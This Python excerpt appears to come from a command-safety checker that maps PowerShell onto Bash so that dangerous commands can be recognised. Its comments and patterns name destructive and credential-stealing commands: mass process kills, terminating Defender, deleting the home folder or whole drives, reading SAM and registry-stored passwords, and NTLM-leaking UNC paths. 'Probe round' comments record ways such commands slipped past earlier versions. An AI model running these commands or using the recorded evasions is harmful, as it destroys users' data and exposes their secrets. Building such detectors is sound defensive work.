# (probe round 38, pwsh38) processes listed, then killed: Get-Process | Stop-Process, Get-CimInstance
# Win32_Process | Remove-CimInstance, ... | Invoke-CimMethod -MethodName Terminate, ... | ForEach-Object
# { $_.Kill() }, Invoke-CimMethod -ClassName Win32_Process -MethodName Terminate, wmic process call
# terminate: every process (kill -9 -1, as Stop-Process -Name * and taskkill /im * are) or the
# processes a filter names (Name='MsMpEng.exe', a security program's, denied as Stop-Process -Name is)
_WMI_GETS = frozenset({"get-ciminstance", "gcim", "get-wmiobject", "gwmi"})
_WMI_REMOVES = frozenset({"remove-ciminstance", "rcim", "remove-wmiobject", "rwmi"})
# the parameters of Get-CimInstance/Get-WmiObject that only pick what is read on this machine
_WMI_READ_PARAMS = ("classname", "class", "namespace", "filter", "property", "keyonly", "shallow", "list", "query",
                    "erroraction", "ea", "amended", "directread", "recurse", "operationtimeoutsec")
_WMI_METHODS = frozenset({"invoke-cimmethod", "icim", "invoke-wmimethod", "iwmi"})
_WMI_NAME = re.compile(r"(?i)\b(?:name|caption|executablepath|commandline)\s*(?:=|like)\s*(?:'([^']*)'|\\?\"([^\"\\]*)|([^\s'\"\\)]+))")
_WMI_WHERE = re.compile(r"(?i)\bwhere\b|^\s*\w+\s*(?:=|<|>|like\b)")


def _filter_processes(text: str) -> list[str]:
    """The processes a WMI filter or query names: ["*"] for none (every process), their names,
    or ['"$POWERSHELL_VALUE"'] for a filter on anything else (ProcessId=123)."""
    if not text or not _WMI_WHERE.search(text):
        return ["*"]
    names = [(a or b or c).replace("%", "*") for a, b, c in _WMI_NAME.findall(text)]
    names = [re.sub(r"(?i)\.exe$", "", n.replace("\\", "/").rsplit("/", 1)[-1]) for n in names if n]
    return names or ['"$POWERSHELL_VALUE"']


def _wmi_processes(stage: list[_T]) -> list[str] | None:
    """What a Get-CimInstance/Get-WmiObject (or Invoke-CimMethod) stage of Win32_Process
    selects (see _filter_processes); None when it is not one."""
    if not stage or stage[0][0] != "w" or stage[0][1].lower() not in (_WMI_GETS | _WMI_METHODS):
        return None
    try:
        named, pos, _redirs = _params(stage[1:])
    except (_Unknown, IndexError):
        return None
    classes = [t[1].lower() for t in pos[:1] + _values(named, "classname", "class", least=2) if t[0] in ("w", "s")]
    query = " ".join(t[1] for t in _values(named, "query", least=1) if t[0] in ("w", "s", "v"))
    if "win32_process" not in classes and not re.search(r"(?i)\bfrom\s+win32_process\b", query):
        return None
    if any(k in named for k in ("inputobject", "computername", "cimsession", "cn")) or any(
            t[0] not in ("w", "s") for t in pos):
        return ['"$POWERSHELL_VALUE"'] if "inputobject" in named else None
    filt = " ".join(t[1] for t in _values(named, "filter", least=1) if t[0] in ("w", "s")) + " " + query
    if _values(named, "filter", least=1) and not filt.strip():
        return ['"$POWERSHELL_VALUE"']
    return _filter_processes(filt if filt.strip() else "")


def _kills_piped(stage: list[_T]) -> bool:
    """A later stage that kills the processes piped in: Stop-Process with no names of its
    own, Remove-CimInstance, Invoke-CimMethod Terminate, ForEach-Object { $_.Kill() }."""
    if not stage or stage[0][0] != "w":
        return False
    name = _cmdlet(stage[0])
    rest = stage[1:]
    if name == "stop-process":
        return all(t[0] == "p" for t in rest)
    if name in _WMI_REMOVES:
        return all(t[0] == "p" for t in rest)
    if name in _WMI_METHODS:
        return any(t[0] in ("w", "s") and t[1].lower() == "terminate" for t in rest)
    if name == "foreach-object":
        if _member_kill(stage):
            return True
        return bool(re.search(r"(?i)\.(?:kill|terminate)\s*\(|stop-process|\bspps\b|\bkill\b|\btaskkill\b|"
                              r"invoke-(?:cim|wmi)method\b[^|]*terminate", " ".join(t[1] for t in rest if t[0] == "block")))
    return False


def _member_kill(stage: list[_T]) -> bool:
    """(probe round 43, pwsh43) ForEach-Object Kill, % -MemberName Kill (-ArgumentList $true): the
    Kill method called on each item piped in, as { $_.Kill() } calls it."""
    if not stage or stage[0][0] != "w" or _cmdlet(stage[0]) != "foreach-object":
        return False
    rest = stage[1:]
    if rest and rest[0][0] == "p" and len(rest[0][1]) > 1 and "-membername".startswith(rest[0][1].lower()):
        rest = rest[1:]
    return bool(rest) and rest[0][0] in ("w", "s") and rest[0][1].lower() == "kill"


# a block that only kills the process piped in ({ $_.Kill() }, { taskkill /F /PID $_.Id },
# { Stop-Process -Id $_.Id -Force }, { kill $_ })
_KILLS_ITEM = re.compile(r"(?i)\s*(?:(?:\$_|\$psitem)\.kill\(\s*(?:\$true|\$false)?\s*\)|"
                         r"(?:taskkill(?:\.exe)?|stop-process|spps|kill)(?:\s+(?:/f|/t|-force|-id|/pid|-inputobject))*"
                         r"\s+(?:\$_|\$psitem)(?:\.id)?(?:\s+(?:/f|/t|-force))*)\s*;?\s*")


def _process_kill(stages: list[list[_T]]) -> str | None:
    """The kill -9 a process list piped to a kill stands for (see _WMI_GETS); None otherwise."""
    if len(stages) != 2 or not stages[0] or not _kills_piped(stages[1]) or any(
            t[0] == "p" and t[1].lower().startswith("-wh") for t in stages[1]):
        return None   # (-WhatIf: nothing killed)
    first = stages[0]
    if _cmdlet(first[0]) == "get-process" and _cmdlet(stages[1][0]) == "foreach-object":
        # (probe round 41, pwsh41) Get-Process notepad | ForEach-Object { taskkill /F /PID $_.Id }: the
        # named processes killed, one by one, as Get-Process notepad | Stop-Process kills them (it
        # was a taskkill of a value known only at run time, KKKDD)
        named = _process_names(first)
        if named and all(re.fullmatch(r"[\w.*?-]+", n) for n in named) and (_member_kill(stages[1]) or len(
                stages[1]) == 2 and stages[1][1][0] == "block" and _KILLS_ITEM.fullmatch(stages[1][1][1])):
            return "kill -9 " + " ".join(shlex.quote(n) for n in named)
    if _cmdlet(first[0]) == "get-process":
        if any(t[0] != "p" and not (t[0] in ("w", "s") and t[1] == "*") for t in first[1:]) or any(
                t[0] == "p" and t[1].lower().startswith(("-id", "-n", "-inputobject", "-pr", "-computer"))
                and t[1].lower() not in ("-name",) for t in first[1:]):
            return None
        if any(t[0] == "p" and t[1].lower() == "-name" for t in first[1:]) and not any(
                t[0] in ("w", "s") and t[1] == "*" for t in first[1:]):
            return None
        names = ["*"]
    else:
        names = _wmi_processes(first)
        if names is None:
            return None
    return "kill -9 -1" if names == ["*"] else "kill -9 " + " ".join(
        n if n.startswith('"$') else shlex.quote(n) for n in names)


# (probe round 40, pwsh40) a comparison operator (-ne, -cnotlike, -iNotIn ...) and the ones that
# only leave things out; -not and ! may turn a comparison around
_COMPARISON = re.compile(r"(?i)(?<![\w$])-[ci]?(eq|ne|gt|ge|lt|le|like|notlike|match|notmatch|in|notin|contains|"
                         r"notcontains|is|isnot)(?![\w-])")
_EXCLUDING = frozenset({"ne", "notlike", "notmatch", "notin", "notcontains", "isnot"})
_TURNED = re.compile(r"(?i)(?<![\w$])-not\b|!(?!=)")
_OR = re.compile(r"(?i)(?<![\w$])-x?or\b")


def _passes_nearly_all(stage: list[_T]) -> bool:
    """(probe round 40, pwsh40) A middle stage that passes on nearly all it is given: a
    Where-Object whose every comparison (in one of its -or branches) only leaves values out
    ({ $_.Name -ne 'explorer' }, Name -notin a,b, { $_.Id -ne $PID }), a Sort-Object."""
    name = _cmdlet(stage[0]) if stage else ""
    if name == "sort-object":
        return not any(t[0] == "p" and t[1].lower().startswith(("-top", "-bottom")) for t in stage[1:])
    if name != "where-object":
        return False
    text = " ".join(t[1] if t[0] != "s" else "'x'" for t in stage[1:])
    if _TURNED.search(text.replace("!=", "")):
        return False
    for branch in _OR.split(text):
        ops = [m.group(1).lower() for m in _COMPARISON.finditer(branch)]
        kept = [o for o in ops if o not in _EXCLUDING]
        if ops and (not kept or all(o in ("lt", "le") for o in kept) and len(kept) <= len(_OLDER.findall(branch))):
            return True
    return False


# (probe round 41, pwsh41) a process started before a moment ({ $_.StartTime -lt (Get-Date).AddHours(-1) }):
# every process running since the machine started, the system's among them
_OLDER = re.compile(r"(?i)\bstarttime\s+-[ci]?l[te](?![\w-])")


def _process_names(stage: list[_T]) -> list[str] | None:
    """The process names a Get-Process stage names (Get-Process MsMpEng, gps -Name a,b); None
    when it is no Get-Process or names none (every process)."""
    if not stage or _cmdlet(stage[0]) not in ("get-process", "get-service", "gsv"):
        return None
    try:
        named, pos, _redirs = _params(stage[1:])
    except (_Unknown, IndexError):
        return None
    got = [t[1] for t in pos + _values(named, "processname", least=2) if t[0] in ("w", "s")]
    return got or None


def _process_names_of(expr: str) -> list[str] | None:
    """The names of (Get-Process NAME) and (Get-Process NAME).Id as an expression's text; ["*"]
    for (Get-Process) or (Get-Process | Where-Object Name -ne X), every process (probe round 40)."""
    try:
        toks = _tokens(expr.split("\x00", 1)[0])
    except (_Unknown, IndexError):
        return None
    stages: list[list[_T]] = [[]]
    for t in toks:
        if t == ("op", "|"):
            stages.append([])
        else:
            stages[-1].append(t)
    if not stages[0] or any(not st or not _passes_nearly_all(st) for st in stages[1:]):
        return None
    got = _process_names(stages[0])
    if got is None and _cmdlet(stages[0][0]) == "get-process" and all(
            t[0] == "p" and t[1].lower() in ("-name",) or t in (("w", "*"), ("s", "*")) for t in stages[0][1:]):
        return ["*"]
    return got


def _where_names(stage: list[_T]) -> list[str]:
    """The literal names a Where-Object stage compares a process's name with (Where-Object
    Name -eq MsMpEng, ? { $_.ProcessName -like 'MsMp*' }): the processes it may let through."""
    if _cmdlet(stage[0]) != "where-object":
        return []
    text = " ".join(t[1] for t in stage[1:] if t[0] in ("w", "p", "block")) + " " + " ".join(
        "'" + t[1] + "'" for t in stage[1:] if t[0] == "s")
    if not re.search(r"(?i)\b(?:process)?name\b", text):
        return []
    return [m.group(1) or m.group(2) or m.group(3) for m in re.finditer(
        r"(?i)-[ci]?(?:eq|like|match|in|contains)\s+(?:'([^']*)'|\"([^\"$`]*)\"|([\w*?.-]+))", text)]


def _cmdlet(tok: _T) -> str:
    return _ALIASES.get(tok[1].lower(), tok[1].lower()) if tok[0] == "w" else ""


# (probe round 51, pwsh51) the drives a stage lists (Get-PSDrive, Get-Volume, Get-Partition, the CIM
# classes of disks and volumes, [IO.DriveInfo]::GetDrives() and GetLogicalDrives() as Get-PSDrive
# -DriveInfo): each item's properties that name the drive, as the system drive's ('' the item itself)
_DRIVE_ITEMS = {"get-psdrive": {"": "'C'", "name": "'C'", "root": "'C:\\'"},
                "driveinfo": {"": "'C:\\'", "name": "'C:\\'", "rootdirectory": "'C:\\'"},
                "get-volume": {"driveletter": "'C'", "path": "'C:\\'", "uniqueid": "'C:\\'"},
                "get-partition": {"driveletter": "'C'", "accesspaths": "'C:\\'"},
                "win32_logicaldisk": {"deviceid": "'C:\\'", "name": "'C:\\'", "caption": "'C:\\'"},
                "win32_volume": {"driveletter": "'C:\\'", "name": "'C:\\'", "caption": "'C:\\'",
                                 "deviceid": "'C:\\'"}}
_DRIVE_SOURCES = frozenset({"get-psdrive", "get-volume", "get-partition"})
_DRIVE_CLASS = re.compile(r"(?i)(?:win32|cim|msft)_(?:logicaldisk|volume|mappedlogicaldisk|logicaldisktopartition)")
_DRIVE_LIST = re.compile(r"(?i)\[(?:system\.)?io\.driveinfo\]::getdrives\(\s*\)|\[(?:system\.)?(?:io\.directory|"
                         r"environment)\]::getlogicaldrives\(\s*\)")


def _items_of(stage: list[_T]) -> list[_T] | None:
    """The items a first stage emits when its text names them: Get-ChildItem PATH's
    children (taken as PATH itself: every one of them may be deleted), Get-Item PATH, a
    literal string; the drives listed ([("drive", SOURCE)], _DRIVE_ITEMS); None when they
    are not known."""
    name = _cmdlet(stage[0])
    if len(stage) == 1 and stage[0][0] in ("paren", "arr"):
        stage = _strings_spread(stage)   # ((probe round 51, pwsh51) @('C:\','D:\') | ForEach-Object { ... })
    if stage[0][0] == "s" and all(t[0] == "s" or t == ("op", ",") for t in stage):
        return [t for t in stage if t[0] == "s"]
    if len(stage) == 1 and stage[0][0] == "v" and (
            _HOME_VARS.match(stage[0][1]) or _ROOT_VARS.match(stage[0][1]) or _DIR_VAR.match(stage[0][1])):
        return stage   # ((probe round 51) $env:SystemDrive | ForEach-Object { ... }: the place the variable names)
    if len(stage) == 1 and stage[0][0] == "paren" and "\x00" not in stage[0][1] and "riv" in stage[0][1]:
        try:
            inner = _tokens(stage[0][1])   # ((Get-PSDrive -DriveInfo): [IO.DriveInfo]::GetDrives())
        except (_Unknown, IndexError):
            return None
        return _items_of(inner) if inner and not any(t[0] == "op" for t in inner) else None
    if name in _DRIVE_SOURCES:
        if name == "get-psdrive" and any(t[0] == "p" and t[1].lower() == "-driveinfo" for t in stage):
            return [("drive", "driveinfo")]
        return [("drive", name)]
    if name in _WMI_GETS:
        cls = next((_DRIVE_CLASS.search(t[1]) for t in stage[1:] if t[0] in ("w", "s", "v")
                    and _DRIVE_CLASS.search(t[1])), None)
        if cls is not None:
            return [("drive", "win32_volume" if cls.group(0).lower().endswith("volume") else "win32_logicaldisk")]
    if name not in ("get-childitem", "get-item"):
        return None
    try:
        named, pos, redirs = _params(stage[1:])
    except (_Unknown, IndexError):
        return None
    if redirs or any(k for k in named if "name".startswith(k) and len(k) >= 1 and k not in ("n",) or k == "n"):
        return None   # (-Name: names, which Remove-Item takes from the working directory)
    paths = _values(named, "path", "literalpath", least=1) + [
        t for t in pos if not (t[0] in ("w", "s") and _values(named, "filter", least=1)[:1] == [t])]
    pats = [t for k in named if len(k) >= 2 and ("filter".startswith(k) or "include".startswith(k))
            for t in named[k] if t is not None]
    if len(paths) > 1 and not _values(named, "filter", least=1) and not pats:
        # (Get-ChildItem PATH FILTER: the second positional is -Filter)
        paths, pats = paths[:1], paths[1:]
    if any(t[0] not in ("w", "s", "v") for t in paths + pats):
        return None
    paths = paths or [("w", ".")]
    if pats:
        # (probe round 40, pwsh40) -Filter PAT / -Include PAT: the items PATH/PAT (PATH/**/PAT with
        # -Recurse); -Filter * is every item (-Exclude leaves a few out: every item)
        deep = "/**/" if any(len(k) >= 2 and "recurse".startswith(k) for k in named) else "/"
        return [(kind, v.rstrip("\\/") + deep + p[1]) for kind, v in paths for p in pats
                if p[1] not in ("*", "*.*")] + [t for t in paths if any(p[1] in ("*", "*.*") for p in pats)]
    return paths


_NAME_PICK = re.compile(r"(?i)(?:\$(?:_|psitem)\.)?(?:ps)?(?:child)?name\s+-[ci]?(eq|like)\s+(?:'([^'$]*)'|\"([^\"$`]*)\"|([\w.*?-]+))")


def _picked_items(stage: list[_T], items: list[_T]) -> list[_T]:
    """(probe round 40, pwsh40) The items a filter stage lets through: a Where-Object that only
    picks by name (Name -eq 'tmp', $_.Name -like 'x*', joined by -or) passes PATH/NAME for each
    path given; any other filter may pass any of them (all the items, as given)."""
    if _cmdlet(stage[0]) != "where-object" or len(items) > 8 or items[0][0] == "drive":
        return items
    text = " ".join(t[1] if t[0] != "s" else "'" + t[1] + "'" for t in stage[1:])
    if _TURNED.search(text) or re.search(r"(?i)-and\b", text):
        return items
    branches = _OR.split(text)
    picks = [_NAME_PICK.fullmatch(b.strip().strip("{}() \t")) for b in branches]
    if not picks or any(m is None for m in picks):
        return items
    names = [m.group(2) or m.group(3) or m.group(4) for m in picks]
    if any(not n or "/" in n or "\\" in n or n in (".", "..") or (m.group(1).lower() == "like" and n.strip("*?") == "")
           for n, m in zip(names, picks)):
        return items
    return [(kind, v.rstrip("\\/") + "/" + n) for kind, v in items for n in names]


def _passes_items(stage: list[_T]) -> bool:
    """A filter stage: what flows out is some of what flowed in."""
    return _cmdlet(stage[0]) in ("where-object", "sort-object", "select-object")


_ITEM_REMOVE = re.compile(r"(?i)((?:^|(?<=[;{(|\s]))(?:remove-item|ri|rm|del|erase|rd|rmdir)\s+(?:-(?:literal)?path\s+)?)"
                          r"\$(?:_|psitem)(?:\.(?:fullname|pspath|path))?(?![\w.(\[])")


def _put_value(body: str, var: str, values: dict[str, str]) -> str:
    """(probe round 51, pwsh51) body with each use of the variable named by the regex var written as
    EXPR ($(EXPR) in a string), the expression values gives for it ('' the value, a name a property):
    $x, ${x}, $($x), $x.Root, $($x.Root); in a single-quoted string it is text, in a double-quoted
    one $x.Root is $x then text; a property not given stays."""
    props = "|".join(re.escape(k) for k in values if k)
    prop = r"(?:\.(%s)(?:\.fullname)?)?" % props if props else "()"
    rx = re.compile(r"(?i)\$\(\s*\$(?:%s)%s\s*\)|\$\{(?:%s)\}|\$(?:%s)%s(?![\w:.(\[])"
                    % (var, prop, var, var, prop))
    spans = _string_spans(body) if "'" in body or '"' in body else ()

    def one(m: re.Match) -> str:
        where = next((body[a] for a, b in spans if a < m.start() < b), "")
        if where == "'":
            return m.group(0)
        key = (m.group(1) or m.group(2) or "").lower()
        if where == '"' and m.group(0)[:2] not in ("$(", "${") and m.group(2):
            got = values.get("")   # ("$x.Root" is $x's text, then ".Root")
            return m.group(0) if got is None else "$(" + got + ")" + m.group(0)[m.group(0).index("."):]
        got = values.get(key)
        return m.group(0) if got is None else "$(" + got + ")" if where else got
    return rx.sub(one, body)


def _given_items(stage: list[_T], items: list[_T]) -> list[_T]:
    """A stage that deletes the items piped in (Remove-Item with no path, ForEach-Object
    { Remove-Item $_ } or { $_.Delete() }) given them by name."""
    name = _cmdlet(stage[0])
    if items[0][0] == "drive" and name != "foreach-object":
        return stage
    if name == "remove-item":
        try:
            named, pos, _redir = _params(stage[1:])
        except (_Unknown, IndexError):
            return stage
        if not pos and not _values(named, "path", "literalpath", least=1):
            return stage + [("p", "-Recurse")] + [t for t in items]
    if name in ("clear-content", "clear-item") and len(items) <= 8:
        # ((probe round 47, pwsh47) Get-ChildItem ~ | Clear-Content: each item emptied, the item itself and,
        # a directory's children standing for it, ITEM/* (as truncate -s 0 ~/* is read))
        try:
            named, pos, _redir = _params(stage[1:])
        except (_Unknown, IndexError):
            return stage
        if not pos and not _values(named, "path", "literalpath", least=1):
            kids = [(kind, v.rstrip("\\/") + "/*") for kind, v in items if kind != "v" and not re.search(r"[*?\[]", v)]
            kids += [("w", w.rstrip("/") + "/*") for t in items if t[0] == "v"
                     for w in [_word(t, 0)] if re.fullmatch(r"~|/[\w./-]*", w)]
            return stage + [t for t in items] + kids
    if name == "foreach-object" and len(stage) == 2 and stage[1][0] == "block" and items[0][0] == "drive":
        # ((probe round 51, pwsh51) Get-PSDrive | ForEach-Object { Remove-Item "$($_.Root)*" }: each drive's
        # root, the system drive's standing for them all; $_ rebound further in (a block of a
        # pipeline or a switch in it) is left from there)
        block = stage[1][1]
        cut = _ITEM_REBOUND.search(block)
        cut = cut.start() if cut else len(block)
        return [stage[0], ("block", _put_value(block[:cut], "_|psitem", _DRIVE_ITEMS[items[0][1]]) + block[cut:])]
    if name == "foreach-object" and len(stage) == 2 and stage[1][0] == "block" and len(items) <= 8:
        # ((probe round 51, pwsh51) 'build','dist' | ForEach-Object { ... }: the block once for each item)
        bodies = []
        for item in items:
            lit = item[1] if item[0] == "v" else "'" + item[1].replace("'", "''") + "'"
            body = re.sub(r"(?i)\$(?:_|psitem)\.delete\(\)|\$(?:_|psitem)\.delete\([^()]*\)",
                          lambda m: "Remove-Item -Recurse -Force " + lit, stage[1][1])
            # ((probe round 45, pwsh45) Remove-Item $_: each item deleted, as ... | Remove-Item deletes them)
            body = _ITEM_REMOVE.sub(lambda m: m.group(1) + "-Recurse " + lit, body)
            # ($_.FullName, $_.PSPath, $_.Path: the item's own path; probe round 31)
            bodies.append(_put_value(body, "_|psitem", {"": lit, "fullname": lit, "pspath": lit, "path": lit}))
        return [stage[0], ("block", "\n".join(bodies))]
    return stage


# the parameters of the cmdlets that pass strings through as strings (a sort, the first
# lines): what follows them still receives text, not objects with a Path
_TEXT_KEEPERS = {"sort-object": ("unique", "descending", "casesensitive", "stable"), "get-unique": ("asstring",),
                 "out-string": ("stream", "width"), "where-object": (),
                 "select-object": ("first", "last", "skip", "skiplast", "unique", "index")}


_NATIVE_NAME = re.compile(r"(?:[\w.]+[\\/])*[a-z][\w.+-]*?(?:\.exe)?")


def _emits_text(stage: list[_T], text_in: bool) -> bool:
    """Does a pipeline stage write plain strings (Get-Content's lines, or lines passed
    through a sort or a Select-Object -First)? Select-String given strings searches
    them; given anything else (Get-ChildItem's files, an object with a Path property,
    ConvertFrom-Json's) it reads the files they name."""
    head = stage[0]
    if head[0] != "w":
        return False
    name = _ALIASES.get(head[1].lower(), head[1].lower())
    if name == "get-content":
        return True
    if not _VERB_NOUN.match(name) and _NATIVE_NAME.fullmatch(name):
        return True   # ((probe round 51, pwsh51) dotnet test | Select-String x: a program's output lines)
    if name == "get-childitem":
        # (the environment's entries, as env prints them)
        return any(t[0] in ("w", "s") and _ENV_DRIVE.match(t[1]) for t in stage[1:])
    keep = _TEXT_KEEPERS.get(name)
    if keep is None or not text_in:
        return False
    try:
        named, pos, redirs = _params(stage[1:])
    except (_Unknown, IndexError):
        return False
    if redirs or any(not any(f.startswith(k) for f in keep) for k in named):
        return False
    if name == "where-object":
        return len(pos) == 1 and pos[0][0] == "block"
    return not pos


def _word(t: _T, depth: int) -> str:
    """A Bash word for an argument token."""
    kind, v = t
    if kind in ("w", "s"):
        if kind == "w" and v.lower() in ("$null",):
            return "/dev/null"
        if kind == "s" and "::" in v:
            v = _filesystem_path(v)
        if kind == "s" and v[:1] == "~" and v[1:2] in ("", "/", "\\"):
            # ((probe round 45, pwsh45) '~\x', '~/*': the provider, not the parser, reads the home's ~
            # and the wildcards, quoted or not: Remove-Item -Path '~/*' is Remove-Item ~/*)
            return _bare(v)
        return shlex.quote(_path(v)) if kind == "s" else _bare(v)
    if kind == "v":
        if v.lower() in ("$true", "$false"):
            return "'" + v.lower() + "'"   # (constants: Set-MpPreference -DisableIOAVProtection $false)
        return _dynamic_word(v)
    if kind in ("sub", "paren"):
        place = _folder_token(v)
        if place is not None:
            return _word(place, depth)
        m = _VALUE_LOOKUP.fullmatch(v) if ("$" in v or "v" in v[:5].lower() or "::" in v or "\x00" in v) else None
        if m is not None:
            # ((probe round 51, pwsh51) (Get-Variable HOME -ValueOnly), (gv HOME).Value, (Get-Item Env:X).Value,
            # ($HOME + '\'), ([IO.Path]::GetPathRoot($PWD)): the variable, or the drive's root, they give)
            name = m.group(1) or m.group(2)
            return _word(("v", "$" + name) if name else ("v", "$env:" + m.group(3)) if m.group(3)
                         else ("v", m.group(4) + m.group(5)) if m.group(4) else ("s", "\\"), depth)
        place = _path_expr(v) if _PATH_EXPR.match(v) else None
        if place is not None:
            return _word(place, depth)   # ((Join-Path $HOME ''), (Resolve-Path ~): that place)
        return '"$(' + to_bash(v, depth + 1) + ')"'
    if kind == "block":
        return '"$(' + to_bash(v, depth + 1) + ')"'
    return '"$POWERSHELL_VALUE"'


_VALUE_LOOKUP = re.compile(r"""(?i)\s*(?:(?:get-variable|gv)\s+(?:-name\s+)?['"]?(\w+)['"]?\s+-valueo\w*|"""
                           r"""(?:get-variable|gv)\s+(?:-name\s+)?['"]?(\w+)['"]?\s*\x00\.value|"""
                           r"""(?:get-item|gi|get-childitem|gci)\s+(?:-(?:literal)?path\s+)?['"]?env:[\\/]?(\w+)['"]?\s*\x00\.value|"""
                           r"""\[(?:system\.)?io\.path\]::getpathroot\((?:[^()]|\([^()]*\))*\)|"""
                           r"""(\$(?:home|\{home\}|env:\w+|\{env:\w+\}))\s*\+\s*'([\\/][^'$`]*)')\s*""")
# an expression that gives a place written out in it: (Join-Path A B), (Resolve-Path A)...
_PATH_EXPR = re.compile(r"(?is)\s*(join-path|resolve-path|rvpa|convert-path|cvpa|get-item|gi)\s+(.*?)\s*")


def _folder_token(v: str) -> _T | None:
    """(probe round 41, pwsh41) A folder lookup, alone or joined to a literal, as a token naming
    that place: ([Environment]::GetFolderPath('UserProfile') + '\\.ssh\\id_rsa') is $HOME\\.ssh\\id_rsa,
    ([Environment]::GetFolderPath('Windows')) C:\\Windows (it was known only at run time, where
    $env:USERPROFILE is the home); None for anything else."""
    if "::" not in v:
        return None
    m = _FOLDER_EXPR.fullmatch(v)
    if m is None or m.group(1).lower() not in _SPECIAL_FOLDERS:
        return None
    rest = m.group(2)[1:-1].replace("''", "'") if m.group(2) else ""
    if rest and rest[0] not in "\\/":
        return None   # (GetFolderPath('UserProfile') + 'x' is C:\Users\devx: another name)
    place = _SPECIAL_FOLDERS[m.group(1).lower()].strip("'")
    if place.startswith("~"):
        return ("v", "$HOME" + place[1:].replace("/", "\\") + rest)
    return ("s", place[1].upper() + ":" + place[2:].replace("/", "\\") + (rest or ("\\" if len(place) == 2 else "")))


def _place_token(v: str) -> _T | None:
    if _HERE_EXPR.fullmatch(v):
        return ("v", "$PWD")   # ((probe round 45, pwsh45) (Get-Location), (pwd): the working directory, as $PWD)
    return _folder_token(v) or (_path_expr(v) if "\x00" not in v and _PATH_EXPR.match(v) else None)


_HERE_EXPR = re.compile(r"(?i)\s*(?:get-location|gl|pwd)\s*")


def _path_expr(v: str) -> _T | None:
    """The place (Join-Path $HOME '') or (Join-Path C:\\ Users), (Resolve-Path ~), (Get-Item ~),
    (Convert-Path ~) give when their parts are written out: a token standing for it (probe
    round 32, windows32: Remove-Item -Recurse -Force (Join-Path $env:USERPROFILE '') was asked in
    bypass); None when anything else is there."""
    m = _PATH_EXPR.fullmatch(v)
    if not m:
        return None
    try:
        named, pos, redirs = _params(_tokens(m.group(2)))
    except (_Unknown, IndexError):
        return None
    join = m.group(1).lower() == "join-path"
    names = ("path", "childpath") if join else ("path", "literalpath")
    if redirs or any(not any(f.startswith(k) for f in names) or len(named[k]) != 1 for k in named) \
            or len(named) + len(pos) != (2 if join else 1):
        return None
    given = dict(zip([k for k in names if not any(f.startswith(k) for f in named)] if join else ["path"], pos))
    given.update({next(f for f in names if f.startswith(k)): vals[0] for k, vals in named.items()})
    parts = [given.get("path") or given.get("literalpath")] + ([given.get("childpath")] if join else [])
    if any(t is None or t[0] not in ("w", "s", "v") for t in parts):
        return None
    text = parts[0][1]
    if join:
        text = text.rstrip("\\/") + "\\" + parts[1][1].lstrip("\\/")
    kinds = {t[0] for t in parts}
    return ("v" if "v" in kinds else "w" if "w" in kinds else "s", text)


def _bare(v: str) -> str:
    """A bare word: a path in PowerShell's spellings, or text; its wildcards stay
    wildcards (-Path expands them: Get-Content .en? reads .env)."""
    v = _filesystem_path(v)
    if v.startswith("~"):
        rest = v[1:].replace("\\", "/")
        return "~" + _glob_quote(rest) if rest else "~"
    return _glob_quote(_path(v))


def _filesystem_path(v: str) -> str:
    """(probe round 49, pwsh49) A path without FileSystem:: (or Microsoft.PowerShell.Core\\FileSystem::)
    before it: FileSystem::$HOME, FileSystem::~ are the home (they were a directory named so)."""
    if "::" in v:
        m = _PROVIDER.match(v)
        if m is not None and m.group(1).lower() == "filesystem":
            return v[m.end():]
    return v


def _glob_quote(v: str) -> str:
    if not v:
        return "''"
    return "".join(p if p in ("*", "?") else shlex.quote(p) for p in re.split(r"([*?])", v) if p)


# \\host\share, //host/share, \\?\UNC\host\share: a file on another machine (Windows opens an SMB
# connection and offers the user's NTLM credentials to it), never a local read
_UNC = re.compile(r"(?i)^(?:[\\/]{2}[?.][\\/]unc[\\/]|[\\/]{2}(?![?.][\\/]))([^\\/]+)")


# a provider-qualified path (Microsoft.PowerShell.Core\FileSystem::\\host\share); the
# environment's or the registry's secrets by their drive (Env:GITHUB_TOKEN, HKLM:\SAM)
_PROVIDER = re.compile(r"(?i)^(?:[\w.]+\\)?(\w+)::")
_ENV_DRIVE = re.compile(r"(?i)^env:[\\/]?$")
_ENV_ENTRY = re.compile(r"(?i)^env:[\\/]?([A-Za-z_][A-Za-z0-9_]*)$")
_SECRET_DRIVE = re.compile(r"(?i)^(?:env:.|hklm:[\\/]*(?:sam|security)(?:$|[\\/]))")
# (probe round 44, pwsh44) registry keys known to hold passwords, whose values a read prints: Winlogon's
# DefaultPassword, PuTTY's sessions' proxy passwords, VNC servers' passwords
_SECRET_KEY = re.compile(r"(?i)^(?:registry::)?(?:hk\w+):?[\\/].*?[\\/](?:winlogon|simontatham|realvnc|tightvnc|"
                         r"winvnc\d*|uvnc_bvba|tigervnc|orl)(?:$|[\\/*])")
_KEY_READERS = frozenset({"get-item", "get-itemproperty", "gp", "get-itempropertyvalue", "gpv", "get-childitem"})


def _remote(v: str) -> None:
    """Raises _Unknown for another machine's file, a path under another provider
    (Registry::..., Certificate::...) and a named variable of Env: or the hives'
    secrets (printenv NAME is no read-only command either)."""
    m = _PROVIDER.match(v)
    if m:
        if m.group(1).lower() != "filesystem":
            raise _Unknown
        v = v[m.end():]
    if _SECRET_DRIVE.match(v):
        raise _Unknown
    m = _UNC.match(v)
    if m and m.group(1).lower() not in ("localhost", "127.0.0.1", "::1"):
        raise _Unknown


# the registry's drives (HKLM:\\SOFTWARE, Registry::HKEY_LOCAL_MACHINE\\...) are the hive files
_REGISTRY = re.compile(r"(?i)^(hklm|hkey_local_machine|hkcu|hkey_current_user|hkcr|hkey_classes_root|"
                       r"hku|hkey_users|hkcc|hkey_current_config)(?::)?(?=[\\/]|$)")


def _path(v: str) -> str:
    m = _REGISTRY.match(v)
    if m and not _SECRET_DRIVE.match(v):
        user = m.group(1).lower() in ("hkcu", "hkey_current_user")
        rest = v[m.end():].replace("\\", "/")
        return ("~/NTUSER.DAT" if user else "/c/Windows/System32/config/" + (
            rest.strip("/").split("/")[0].upper() if rest.strip("/") else "SYSTEM")) + rest
    _remote(v)
    m = _PROVIDER.match(v)
    v = v[m.end():] if m else v
    return posix_spelling(v, _CWD_DRIVE.get()) if ("\\" in v or re.match(r"^[A-Za-z]:", v)) else v


# the home spelled by its parts: $env:HOMEDRIVE$env:HOMEPATH, $env:HOMEPATH alone (the
# current drive's), C:\Users\$env:USERNAME, $env:SystemDrive\Users\$env:USERNAME (probe round 31)
_DRIVE_PART = r"(?:\$env:(?:homedrive|systemdrive)|\$\{env:(?:homedrive|systemdrive)\}|[a-z]:)"
